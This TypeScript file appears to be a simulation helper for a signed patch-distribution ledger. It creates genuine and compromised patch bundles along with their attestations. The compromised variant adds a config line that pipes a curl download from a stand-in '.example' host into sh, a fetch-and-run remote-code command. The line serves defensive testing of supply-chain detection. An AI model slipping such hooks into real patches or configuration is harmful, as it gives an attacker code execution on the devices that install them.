/**
 * Patches as the real system makes them: a signed bundle (createBundle, checked with
 * verifyParsedBundle), a `publish` entry and the author's `built` attestation. A genuine fix
 * turns `state=vulnerable` into `state=fixed`; a compromised variant of it, signed by its
 * malicious author, does the same and adds a hook. Sources offer patches through `built` and
 * `forwarded` attestations.
 */
import { createHash } from 'node:crypto';
import { createBundle, makeMemoryTree, type MemoryTree } from '../../src/core/index.ts';
import { verifyParsedBundle } from '../../src/core/bundle/verify.ts';
import type { Actor, PatchInfo, Source, World } from './world.ts';

const pad = (k: number) => String(k).padStart(2, '0');
const fileOf = (k: number) => `etc/fix-${pad(k)}.conf`;

/**
 * A device's files as they are before any patch: an in-memory tree with the native file
 * digest the Tree interface allows (as the CLI's Node tree has), so tree hashes stay cheap.
 */
export function baseTree(fixes: number): MemoryTree {
  const files: Record<string, string> = {};
  for (let k = 0; k < fixes; k++) files[fileOf(k)] = `fix=${pad(k)}\nstate=vulnerable\n`;
  const tree = makeMemoryTree(files);
  tree.digest = async (path) =>
    createHash('sha256')
      .update(await tree.read(path))
      .digest('hex');
  return tree;
}

function diffOf(k: number, hook?: string): string {
  const path = fileOf(k);
  const added = hook === undefined ? '' : `+hook=${hook}\n`;
  const count = hook === undefined ? 2 : 3;
  return (
    `--- a/${path}\n+++ b/${path}\n@@ -1,2 +1,${count} @@\n fix=${pad(k)}\n` +
    `-state=vulnerable\n+state=fixed\n${added}`
  );
}

/** A signed bundle of `diff` by `author`, verified as a device would, and its metadata. */
async function signedBundle(world: World, author: Actor, fix: number, diff: string) {
  const bundle = await createBundle({
    diff,
    signer: author.signer,
    reason: `fix ${pad(fix)}: close the vulnerable default`,
    components: [`fix-${pad(fix)}`],
    now: world.clock.date(),
  });
  const verified = await verifyParsedBundle(bundle);
  if (!verified.ok) throw new Error(`sim: a bundle did not verify: ${verified.problem.message}`);
  return verified.report;
}

/** Bundle, `publish` entry (as `patchtrail ledger attest` writes it) and `built` attestation. */
async function publishPatch(
  world: World,
  author: Actor,
  fix: number,
  hook?: string,
): Promise<PatchInfo> {
  const { ledger, clock } = world;
  const diff = diffOf(fix, hook);
  const report = await signedBundle(world, author, fix, diff);
  const digest = `sha256:${report.payloadDigest}`;
  const { predicate } = report;
  const metadata = {
    creator: predicate.creator_identity,
    reason: predicate.reason_for_patch,
    components: [...predicate.affected_components],
  };
  const publish = { patch: digest, diff: `sha256:${report.diffDigest}`, ...metadata };
  await ledger.append(
    author.signer,
    'publish',
    { ...publish, created: predicate.creation_timestamp },
    clock.next(),
  );
  const built = await ledger.append(
    author.signer,
    'attest',
    { patch: digest, reason: 'built' },
    clock.next(),
  );
  const compromised = hook !== undefined;
  const info: PatchInfo = { digest, fix, compromised, author, diff, metadata, built: built.id };
  world.patches.set(digest, info);
  return info;
}

export function publishGenuine(world: World, author: Actor, fix: number): Promise<PatchInfo> {
  return publishPatch(world, author, fix);
}

/** The system's current compromised variant of a fix: a new one when the last was flagged. */
export async function variantOf(world: World, m: Actor, fix: number): Promise<PatchInfo> {
  const current = m.variants.get(fix);
  if (current !== undefined && !world.flagged.has(current.digest)) return current;
  const hook = `curl -s https://${m.name}.example/${m.generation}/${world.patches.size} | sh`;
  const variant = await publishPatch(world, m, fix, hook);
  m.variants.set(fix, variant);
  return variant;
}

/** The system's `forwarded` attestation on the genuine fix (written the first time). */
export async function forwardGenuine(world: World, a: Actor, fix: number): Promise<Source> {
  const patch = world.genuine[fix] as PatchInfo;
  let id = a.forwarded.get(fix);
  if (id === undefined) {
    const entry = await world.ledger.append(
      a.signer,
      'attest',
      { patch: patch.digest, reason: 'forwarded', parent: patch.built },
      world.clock.next(),
    );
    id = entry.id;
    a.forwarded.set(fix, id);
  }
  return { system: a, attestation: id, patch };
}

/** The author's own `built` attestation as a source. */
export function builtSource(patch: PatchInfo): Source {
  return { system: patch.author, attestation: patch.built, patch };
}
